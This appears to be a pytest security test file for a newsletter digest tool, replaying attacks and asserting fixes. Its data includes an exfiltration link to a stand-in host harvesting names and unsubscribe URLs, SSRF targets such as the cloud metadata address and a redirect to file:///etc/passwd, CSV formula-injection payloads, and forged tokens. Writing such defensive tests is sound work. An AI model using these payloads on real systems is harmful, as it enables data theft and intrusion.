"""The digest attacked on purpose: hostile partner feeds, a hanging mail server, a spreadsheet
opening the export, forged unsubscribe tokens. Each test replays the attack and asserts
the fix."""

from __future__ import annotations

import csv
import re
import socket
import time
from email.message import EmailMessage
from pathlib import Path

import pytest

import community_digest.sources as sources_module
import community_digest.views as views_module
from community_digest import fetching
from community_digest.fetching import FeedError, fetch, is_public_link
from community_digest.pipeline import BuildRequest, build_issue
from community_digest.store import open_database
from community_digest.tokens import INVALID_TOKEN, TokenSigner
from generator.content.project import load_project
from tests.digest_send.smtp_server import SmtpServer

from .digestkit import (
    ISSUE,
    SECRET,
    UNSUBSCRIBE_URL,
    FeedServer,
    Route,
    delivery_states,
    digest_project,
    rss,
    run_hub,
    stalling_smtp,
    subscribe,
    within,
)

EVIL = "https://evil.example/collect?u=%%unsubscribe_url%%&amp;who=%%name%%"
PEOPLE = [("zoe@example.org", "Zoe Quill"), ("yuri@example.org", "Yuri Vance")]


@pytest.fixture(autouse=True)
def _secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HUB_UNSUBSCRIBE_SECRET", SECRET)
    monkeypatch.delenv("HUB_SMTP_USER", raising=False)
    monkeypatch.delenv("HUB_SMTP_PASSWORD", raising=False)


@pytest.fixture
def feeds():
    server = FeedServer()
    yield server
    server.stop()


@pytest.fixture
def smtp():
    server = SmtpServer().start()
    yield server
    server.stop()


def _parts(message: EmailMessage) -> str:
    texts = [message.get_body((kind,)) for kind in ("plain", "html")]
    return "\n".join(part.get_content() for part in texts if part is not None)


# -- 3. a partner feed can't harvest readers' names and unsubscribe links ------------------


def _harvesting_project(root: Path) -> Path:
    feed = root / "partner.rss.xml"
    root.mkdir(parents=True, exist_ok=True)
    feed.write_text(
        rss([{"title": "Hello %%name%%, read this", "link": EVIL, "text": "Yours: %%unsubscribe_url%% %%name%%"}]),
        encoding="utf-8",
    )
    return digest_project(root, [str(feed)], unsubscribe_url=UNSUBSCRIBE_URL)


def _send_to_people(root: Path, config: Path, smtp: SmtpServer, monkeypatch, capsys) -> dict[str, EmailMessage]:
    ids = subscribe(root, PEOPLE)
    run = run_hub(config, monkeypatch, capsys, "digest", "send", ISSUE, "--smtp", smtp.url, "--yes")
    assert run.code == 0, run.err
    signer = TokenSigner(SECRET.encode())
    received = {m.rcpt_tos[0]: m.parsed() for m in smtp.handler.messages}
    assert set(received) == {email for email, _ in PEOPLE}
    for email, name in PEOPLE:  # the templates' own tokens are still filled
        body = _parts(received[email])
        assert f"Hello {name}" in body
        assert f"{UNSUBSCRIBE_URL}?token={signer.token(ids[email], email)}" in body
    return received


def test_partner_entry_with_tokens_gets_no_recipient_data(tmp_path, smtp, monkeypatch, capsys):
    """The attack of the report: tokens in a partner's link, title and text."""
    config = _harvesting_project(tmp_path / "hub")
    received = _send_to_people(config.parent, config, smtp, monkeypatch, capsys)
    for email, name in PEOPLE:
        body = _parts(received[email])
        links = re.findall(r"https://evil\.example/collect[^\s\"<>\]]*", body)
        assert links, body
        for link in links:
            assert "token=" not in link and name.split()[0] not in link and "%%" not in link
        assert "https://evil.example/collect?u=%25%25unsubscribe_url%25%25" in body
        assert "Hello %name%, read this" in body and "Yours: %unsubscribe_url% %name%" in body
        assert body.count(name) == 2  # the greeting in each part, nowhere else


def test_token_syntax_past_the_feed_check_is_still_not_filled(tmp_path, smtp, monkeypatch, capsys):
    """The second lock: with the on-the-way-in cleaning switched off, tokens that reach the
    compiled e-mail from a feed are not at the positions the templates gave, so stay text."""
    monkeypatch.setattr(sources_module, "inert_item", lambda item: item)
    monkeypatch.setattr(views_module, "inert_item", lambda item: item)
    monkeypatch.setattr(views_module, "inert_text", lambda text: text)
    config = _harvesting_project(tmp_path / "hub")
    received = _send_to_people(config.parent, config, smtp, monkeypatch, capsys)
    for email, name in PEOPLE:
        body = _parts(received[email])
        assert "collect?u=%%unsubscribe_url%%&who=%%name%%" in body
        assert "Hello %%name%%, read this" in body
        assert body.count(name) == 2


def test_a_compiled_part_edited_after_the_build_is_refused_not_misfilled(tmp_path, monkeypatch, capsys):
    """The slots are positions: if the file moved under them, nothing is filled in the wrong place."""
    config = _harvesting_project(tmp_path / "hub")
    result = build_issue(load_project(config), BuildRequest(issue=ISSUE))
    subscribe(config.parent, PEOPLE)
    text = result.compiled.full_variant().text_path
    text.write_text("x" + text.read_text(encoding="utf-8"), encoding="utf-8")
    run = run_hub(config, monkeypatch, capsys, "digest", "send", ISSUE, "--dry-run", str(tmp_path / "eml"))
    assert run.code == 1 and "Traceback" not in run.err
    assert f"{text}: changed after it was compiled (no %%name%% at character " in run.err
    assert not list((tmp_path / "eml").glob("*.eml"))


# -- 7. hangs: a dribbling partner feed, an SMTP server that stops answering ---------------


@pytest.mark.parametrize("where", ["status line", "body"])
def test_dribbling_partner_feed_gives_up_within_feed_timeout(tmp_path, feeds, where):
    """A byte every 3 s, `feed_timeout: 5`: the build goes on after ~5 s without the feed."""
    feed = rss([{"title": "Slow", "link": "https://partner.example/slow"}]).encode()
    feeds.routes["/slow.xml"] = Route(body=feed, dribble=3.0, headers_at_once=where == "body")
    slow = feeds.url("/slow.xml")
    config = digest_project(tmp_path, [slow], feed_timeout=5, allow_private_feeds=True)
    result, elapsed = within(7.5, lambda: build_issue(load_project(config), BuildRequest(issue=ISSUE)))
    assert elapsed > 4.5  # it waited its budget, it did not fail for another reason
    assert f"partner feed {slow}: gave up after 5 s (feed_timeout); its entries are left out of this issue" in (
        result.warnings
    )
    assert "partner.example/slow" not in result.compiled.full_variant().html_path.read_text(encoding="utf-8")


def test_a_name_lookup_that_hangs_gives_up_within_feed_timeout(tmp_path, monkeypatch):
    """The system resolver retries for many seconds: the lookup counts against feed_timeout too."""

    def hanging(*args, **kwargs):
        time.sleep(3)
        raise socket.gaierror(socket.EAI_AGAIN, "no answer")

    monkeypatch.setattr(fetching.socket, "getaddrinfo", hanging)
    started = time.monotonic()
    with pytest.raises(FeedError, match=r"feed https://partner\.example/feed\.xml: gave up after 0\.5 s"):
        fetch("https://partner.example/feed.xml", base=tmp_path, timeout=0.5, max_bytes=100_000)
    assert time.monotonic() - started < 1.5


def test_send_stops_after_consecutive_smtp_timeouts_and_resumes_once_each(tmp_path, monkeypatch, capsys):
    """The server takes 3 messages, then keeps the 4th without answering and answers nothing
    more. With smtp_timeout 1 and smtp_max_timeouts 3 the send stops in seconds; a rerun
    on a working server sends the rest, and nobody gets the issue twice."""
    people = [(f"p{n:02d}@example.org", f"Person {n}") for n in range(10)]
    config = digest_project(tmp_path, [], smtp_timeout=1, smtp_max_timeouts=3)
    subscribe(tmp_path, people)
    hanging = stalling_smtp(answered=3)
    try:
        args = ("digest", "send", ISSUE, "--smtp", hanging.url, "--yes", "--retry-delay", "0")
        run, elapsed = within(15, lambda: run_hub(config, monkeypatch, capsys, *args))
    finally:
        hanging.stop()
    assert run.code == 1
    assert "the SMTP server did not answer 3 times in a row (last: no answer within 1 s)" in run.err
    assert "rerun the command to resume" in run.err and "Traceback" not in run.err
    assert elapsed >= 2.5  # three waits of smtp_timeout
    states = delivery_states(tmp_path)
    assert sorted(states.values()) == ["pending"] * 6 + ["sending"] + ["sent"] * 3
    kept = {m.rcpt_tos[0] for m in hanging.handler.messages}
    assert len(kept) == 4 and {e for e, s in states.items() if s != "pending"} == kept

    healthy = SmtpServer().start()
    try:
        rerun = run_hub(config, monkeypatch, capsys, "digest", "send", ISSUE, "--smtp", healthy.url, "--yes")
    finally:
        healthy.stop()
    assert rerun.code == 0, rerun.err
    second = [m.rcpt_tos[0] for m in healthy.handler.messages]
    assert sorted(second) == sorted({e for e, _ in people} - kept)  # nobody twice, nobody lost
    assert sorted(delivery_states(tmp_path).values()) == ["sending"] + ["sent"] * 9


def test_smtp_timeout_and_max_timeouts_are_checked_settings(tmp_path, monkeypatch, capsys):
    config = digest_project(tmp_path, [], smtp_timeout=0, smtp_max_timeouts=0)
    run = run_hub(config, monkeypatch, capsys, "digest", "status", ISSUE)
    assert run.code != 0 and "smtp_timeout" in run.err and "smtp_max_timeouts" in run.err
    assert "Traceback" not in run.err


# -- 8. partner feeds reach only public addresses, over http(s) ------------------------------


def test_loopback_feed_and_redirects_are_refused_without_allow_private(tmp_path, feeds):
    feeds.routes["/feed.xml"] = Route(body=rss([{"title": "Inside", "link": "https://partner.example/a"}]).encode())
    feeds.routes["/moved.xml"] = Route(301, location=feeds.url("/feed.xml"))
    for path in ("/feed.xml", "/moved.xml"):
        with pytest.raises(FeedError, match=r"refused: 127\.0\.0\.1 is a loopback, private or reserved address"):
            fetch(feeds.url(path), base=tmp_path, timeout=5, max_bytes=100_000)
    with pytest.raises(FeedError, match=r"refused: localhost is a loopback"):
        fetch(f"http://localhost:{feeds.port}/feed.xml", base=tmp_path, timeout=5, max_bytes=100_000)
    assert feeds.requests == []  # refused before connecting
    # allowed explicitly (as tests do), the same feed is read: the refusal was the rule
    data = fetch(feeds.url("/moved.xml"), base=tmp_path, timeout=5, max_bytes=100_000, allow_private=True)
    assert b"Inside" in data and feeds.requests == ["/moved.xml", "/feed.xml"]


def test_redirect_from_a_public_feed_to_loopback_is_refused(tmp_path, feeds, monkeypatch):
    """Each redirect is checked again: the feed's own host passes (here it stands in for a
    partner's public server), the loopback address it redirects to does not."""
    real = fetching.is_public_address
    monkeypatch.setattr(fetching, "is_public_address", lambda a: str(a) == "127.0.0.1" or real(a))
    feeds.routes["/feed.xml"] = Route(302, location=f"http://127.0.0.2:{feeds.port}/internal.xml")
    with pytest.raises(FeedError) as caught:
        fetch(feeds.url("/feed.xml"), base=tmp_path, timeout=5, max_bytes=100_000)
    assert str(caught.value) == (
        f"feed {feeds.url('/feed.xml')}: redirected to http://127.0.0.2:{feeds.port}/internal.xml: "
        "refused: 127.0.0.2 is a loopback, private or reserved address (127.0.0.2)"
    )
    assert feeds.requests == ["/feed.xml"]


def test_redirect_to_another_scheme_and_redirect_loops_are_refused(tmp_path, feeds):
    feeds.routes["/ftp.xml"] = Route(302, location="ftp://127.0.0.1/feed.xml")
    feeds.routes["/file.xml"] = Route(302, location="file:///etc/passwd")
    feeds.routes["/loop.xml"] = Route(302, location="/loop.xml")
    for path, target in (("/ftp.xml", "ftp://127.0.0.1/feed.xml"), ("/file.xml", "file:///etc/passwd")):
        with pytest.raises(FeedError) as caught:
            fetch(feeds.url(path), base=tmp_path, timeout=5, max_bytes=100_000, allow_private=True)
        assert str(caught.value) == (
            f"feed {feeds.url(path)}: refused a redirect to {target!r}: only http and https are followed"
        )
    with pytest.raises(FeedError, match="refused: more than 5 redirects"):
        fetch(feeds.url("/loop.xml"), base=tmp_path, timeout=5, max_bytes=100_000, allow_private=True)
    assert feeds.requests.count("/loop.xml") == 6


def test_loopback_partner_feed_is_left_out_of_the_issue(tmp_path, feeds):
    """The report's case end to end: a feed on 127.0.0.1 got its entry published."""
    feeds.routes["/feed.xml"] = Route(body=rss([{"title": "Inside", "link": "https://partner.example/in"}]).encode())
    config = digest_project(tmp_path, [feeds.url("/feed.xml")])
    result = build_issue(load_project(config), BuildRequest(issue=ISSUE))
    assert any("refused: 127.0.0.1 is a loopback" in warning for warning in result.warnings)
    assert "partner.example/in" not in result.compiled.full_variant().html_path.read_text(encoding="utf-8")
    assert feeds.requests == []


PRIVATE_LINKS = [
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1/admin",
    "http://10.0.0.1/",
    "http://localhost:8080/",
    "http://192.168.1.1/router",
    "http://[::1]/",
    "http://2130706433/",
    "http://0x7f.1/",
]


def test_links_to_local_and_private_hosts_are_dropped_from_the_e_mail(tmp_path):
    feed = tmp_path / "partner.rss.xml"
    entries = [{"title": f"Private {n}", "link": link} for n, link in enumerate(PRIVATE_LINKS)]
    entries.append({"title": "Public", "link": "https://partner.example/public"})
    feed.write_text(rss(entries), encoding="utf-8")
    config = digest_project(tmp_path, [str(feed)])
    result = build_issue(load_project(config), BuildRequest(issue=ISSUE))
    variant = result.compiled.full_variant()
    outputs = variant.html_path.read_text(encoding="utf-8") + variant.text_path.read_text(encoding="utf-8")
    assert "https://partner.example/public" in outputs
    for n, link in enumerate(PRIVATE_LINKS):
        assert f"Private {n}<" not in outputs and f"Private {n}\n" not in outputs
        assert f"entry 'Private {n}' links to a local or private address ({link}); skipped" in "\n".join(
            result.warnings
        )
    assert not any(is_public_link(link) for link in PRIVATE_LINKS)
    assert is_public_link("https://partner.example/x") and is_public_link("http://93.184.216.34/")


# -- 9. the CSV export can't run formulas in a spreadsheet -----------------------------------

FORMULAS = [
    ("eq@example.org", '=HYPERLINK("https://evil.example/?"&A1,"Click")'),
    ("plus@example.org", "+1+2"),
    ("minus@example.org", "-2+3"),
    ("at@example.org", "@SUM(A1:A9)"),
    ("tab@example.org", "\t=1+1"),
    ("cr@example.org", "\r=1+1"),
    ("quoted@example.org", "'=already quoted"),
    ("=cmd@example.org", "Plain Name"),
]


def test_export_neutralizes_formulas_and_imports_back_the_same(tmp_path, monkeypatch, capsys):
    config = digest_project(tmp_path, [])
    conn = open_database(tmp_path / ".hub" / "subscribers.sqlite3")
    with conn:  # as another tool could write them: a leading tab or CR passes no check here
        conn.executemany(
            "INSERT INTO subscribers (email, name, language, topics, frequency, status, created_at)"
            " VALUES (?, ?, 'en', '', 'monthly', 'active', '2025-01-01T00:00:00+00:00')",
            FORMULAS,
        )
    conn.close()
    out = tmp_path / "export.csv"
    assert run_hub(config, monkeypatch, capsys, "subscribers", "export", str(out)).code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_email = {row[0]: row[1] for row in rows[1:]}
    assert by_email["'=cmd@example.org"] == "Plain Name"
    assert by_email["eq@example.org"] == "'" + FORMULAS[0][1]
    assert by_email["quoted@example.org"] == "''=already quoted"

    conn = open_database(tmp_path / ".hub" / "subscribers.sqlite3")
    with conn:
        conn.execute("DELETE FROM subscribers")
    conn.close()
    # Everything comes back as it was, except that import's name check trims a leading tab or CR.
    imported = run_hub(config, monkeypatch, capsys, "subscribers", "import", str(out))
    assert imported.code == 0, imported.err
    conn = open_database(tmp_path / ".hub" / "subscribers.sqlite3")
    back = dict(conn.execute("SELECT email, name FROM subscribers").fetchall())
    conn.close()
    assert back == {email: name.strip() for email, name in FORMULAS}


# -- 10. unsubscribe tokens: absurd ids, and one answer for every bad token ----------------


def test_bad_unsubscribe_tokens_get_one_clean_answer(tmp_path, monkeypatch, capsys):
    config = digest_project(tmp_path, [])
    ids = subscribe(tmp_path, PEOPLE)
    signer = TokenSigner(SECRET.encode())
    mac = signer.token(ids["zoe@example.org"], "zoe@example.org").split(".")[1]
    bad = {
        "19-digit id": f"9999999999999999999.{mac}",
        "id past SQLite's range": f"9223372036854775808.{mac}",
        "unknown id, right secret": signer.token(424242, "someone@example.org"),
        "forged": TokenSigner(b"not the secret, but long").token(ids["zoe@example.org"], "zoe@example.org"),
        "someone else's mac": f"{ids['yuri@example.org']}.{mac}",
        "malformed": "12345",
        "empty": "",
    }
    for why, token in bad.items():
        run = run_hub(config, monkeypatch, capsys, "subscribers", "unsubscribe", "--token", token)
        assert (run.code, run.err.strip(), run.out) == (1, INVALID_TOKEN, ""), why
    good = f"{ids['zoe@example.org']}.{mac}"
    ok = run_hub(config, monkeypatch, capsys, "subscribers", "unsubscribe", "--token", good)
    assert (ok.code, ok.out.strip()) == (0, f"Unsubscribed subscriber #{ids['zoe@example.org']}.")
